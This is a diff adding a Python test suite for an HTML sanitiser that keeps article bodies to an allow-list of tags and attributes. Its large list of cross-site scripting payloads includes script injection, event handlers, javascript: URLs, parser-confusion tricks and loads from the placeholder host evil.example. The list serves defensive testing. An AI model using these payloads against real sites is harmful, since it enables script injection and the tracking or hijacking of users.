@@ -1,0 +1,236 @@
+"""The allow-list keeps what an article may hold and nothing that runs, loads or hides."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from content.body import BodyError, blocks, normalise, sanitise
+
+ALLOWED = {
+    **{tag: set[str]() for tag in ("h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em")},
+    **{tag: set[str]() for tag in ("br", "hr", "figure", "figcaption")},
+    "p": {"data-prompt"},
+    "section": {"data-practice"},
+    "a": {"href", "rel"},
+    "img": {"src", "alt"},
+}
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/x>alert(1)</script>",
+    "<script\n>alert(1)</script\n>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=/pictures/a.jpg onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src='x' onerror='alert(1)'//>",
+    '<img src="javascript:alert(1)">',
+    "<img src=https://evil.example/pixel.gif>",
+    "<img src=//evil.example/pixel.gif>",
+    "<img src=/pictures/../../admin/logout/>",
+    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
+    "<img srcset='https://evil.example/x 2x' src=/pictures/a.jpg>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
+    "<a href='javascript&Tab;:alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='blob:https://x'>x</a>",
+    "<a href='view-source:javascript:alert(1)'>x</a>",
+    "<a href=/ target=_blank>x</a>",
+    "<a href=/ ping=https://evil.example>x</a>",
+    "<a href=/ download onmouseover=alert(1)>x</a>",
+    "<p onclick=alert(1)>x</p>",
+    "<p style='background:url(https://evil.example)'>x</p>",
+    "<p class='button' id='main'>x</p>",
+    '<p data-prompt="a" onfocus=alert(1) autofocus tabindex=0>x</p>',
+    "<p data-prompt='\"><script>alert(1)</script>'>x</p>",
+    "<section data-practice='x\" onclick=\"alert(1)'><p>x</p></section>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=https://evil.example/>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=https://evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<body onload=alert(1)>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<x-strong onclick=alert(1)>x</x-strong>",
+    "<x-other onclick=alert(1)>x</x-other>",
+    "<strong style=x onclick=alert(1)>x</strong>",
+    "<img alt='<x-strong onclick=alert(1)>' src=/pictures/a.jpg>",
+    "<img alt='\"><script>alert(1)</script>' src=/pictures/a.jpg>",
+    "<p title=x lang=en dir=rtl hidden>x</p>",
+    "<b\0 onclick=alert(1)>x</b\0>",
+    "<\0script>alert(1)</script>",
+    "<sc\ud800ript>alert(1)</script>",
+    "<table><td><svg><script>alert(1)</script></table>",
+    "<select><style></select><img src=x onerror=alert(1)></style>",
+    "<" * 50 + "script>alert(1)//" + "<" * 50,
+]
+
+
+class Reader(HTMLParser):
+    """Fails on anything the contract does not name."""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in ALLOWED, tag
+        for name, value in attrs:
+            assert name in ALLOWED[tag], (tag, name)
+            if name == "href":
+                assert re.match(r"(https?:|mailto:|[^:]*$|[^:]*[/?#])", value or ""), value
+            if name == "src":
+                assert (value or "").startswith("/pictures/")
+                assert ".." not in (value or "")
+            if name.startswith("data-"):
+                assert re.fullmatch(r"([a-z][a-z0-9_]{0,39})?", value or ""), value
+
+    handle_startendtag = handle_starttag
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    def handle_decl(self, decl: str) -> None:
+        raise AssertionError(decl)
+
+    def handle_pi(self, data: str) -> None:
+        raise AssertionError(data)
+
+
+def assert_allowed(html: str) -> None:
+    reader = Reader()
+    reader.feed(html)
+    reader.close()
+
+
+SCRAPS = st.sampled_from(
+    [
+        *("<p>", "</p>", "<b>", "</b>", "<em>", "</em>", "<ul>", "<ol>", "<li>", "</li>", "</ul>", "<h1>", "</h1>"),
+        *("<blockquote>", "</blockquote>", "<div>", "</div>", "<br>", "<hr>", "<table>", "<td>", "</table>"),
+        *('<p data-prompt="a">', "<p data-prompt>", '<section data-practice="a">', "</section>", "<section>"),
+        *("<figure>", "<img src=/pictures/a.jpg alt='x<y>\"'>", "<figcaption>", "</figure>", "<svg>", "<math>"),
+        *("<a href=/x>", "<a href='https://x.example/?a=1&b=2'>", "</a>", "&amp;", "&nbsp;", "&#0;", "&#1;", "&"),
+        *("<x-strong>", "</x-strong>", "<!--", "-->", "<script>", "</script>", "<title>", "text", " ", "\n", "\0"),
+    ]
+)
+ANY_BODY = st.lists(SCRAPS | st.text(max_size=8), max_size=25).map("".join)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<section data-practice><p>a</p>{}</section>"])
+def test_nothing_that_runs_or_loads_gets_through(attack: str, around: str) -> None:
+    html = around.format(attack)
+
+    assert_allowed(sanitise(html))
+    assert_allowed(normalise(html))
+    for block in blocks(html):
+        assert_allowed(block.html)
+
+
+@given(ANY_BODY)
+@settings(max_examples=300, deadline=None)
+def test_cleaning_any_text_twice_changes_nothing_more(html: str) -> None:
+    once = sanitise(html)
+
+    assert_allowed(once)
+    assert sanitise(once) == once
+
+
+@given(ANY_BODY)
+@settings(max_examples=300, deadline=None)
+def test_a_kept_body_stays_as_it_is(html: str) -> None:
+    kept = normalise(html)
+
+    assert_allowed(kept)
+    assert sanitise(kept) == kept
+    assert normalise(kept) == kept
+
+
+def test_links_get_a_rel_and_lose_their_target() -> None:
+    html = '<p><a href="https://example.org" target="_blank" rel="opener">x</a></p>'
+
+    assert sanitise(html) == '<p><a href="https://example.org" rel="noopener noreferrer">x</a></p>'
+
+
+@pytest.mark.parametrize(
+    "address", ["https://a.example/x?y=1:2#z", "mailto:a@b.example", "/articles/rest/", "#help", "a/b:c"]
+)
+def test_plain_addresses_stay(address: str) -> None:
+    assert f'href="{address}"' in sanitise(f'<a href="{address}">x</a>')
+
+
+def test_letters_and_signs_of_any_language_stay() -> None:
+    text = "Grüße, “quotes”, ñ, 休息, שָׁלוֹם, 1 < 2 & 3"
+
+    assert blocks(f"<p>{text}</p>")[0].text == text
+
+
+@pytest.mark.parametrize(
+    "html",
+    {
+        "nested divs": "<div>" * 5_000 + "x",
+        "nested quotes": "<blockquote>" * 5_000 + "x",
+        "nested lists": "<ul><li>" * 5_000 + "x",
+        "few nested lists": "<ul><li>" * 400 + "x",
+        "nested bold": "<b>" * 5_000 + "x",
+        "one megabyte": "<p>hello world</p>" * 60_000,
+        "open formatting": "".join(f"<font a={i}>" for i in range(5_000)) + "<p>x" * 15_000,
+        "open links": "<div>" * 10_000 + "<a href=x>" * 15_000,
+        "paragraphs": "<p>x" * 19_000,
+        "bold words": "<b>x</b> " * 9_000,
+        "entities": "&" * 200_000,
+        "angle brackets": "<" * 200_000,
+        "attributes": "<p " + " ".join(f"a{i}=1" for i in range(20_000)) + ">x",
+        "unknown tags": "<x>" * 60_000,
+        "one long word": "x" * 199_000,
+        "lone surrogates": "\ud800" * 100_000,
+        "nothing": "\0" * 100_000,
+    }.items(),
+    ids=lambda item: item[0],
+)
+def test_hostile_sizes_are_cleaned_or_refused_quickly(html: tuple[str, str]) -> None:
+    begun = time.process_time()
+
+    try:
+        normalise(html[1])
+    except BodyError as error:
+        assert str(error).endswith(".")
+
+    assert time.process_time() - begun < 0.6  # about 0.15 s on a quiet machine
